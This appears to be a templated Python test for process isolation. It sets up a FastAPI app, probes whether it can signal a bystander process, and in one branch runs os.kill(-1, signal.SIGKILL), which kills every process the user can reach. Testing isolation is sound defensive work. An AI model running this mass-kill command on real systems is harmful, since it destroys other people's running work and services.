import os
import signal

from fastapi import FastAPI
from notes import attempt, confessions, router

app = FastAPI()
app.include_router(router)
with attempt("can signal a stranger"):
    os.kill(@BYSTANDER_PID@, 0)
try:
    os.kill(@BYSTANDER_PID@, 0)
except OSError:
    if not confessions:
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
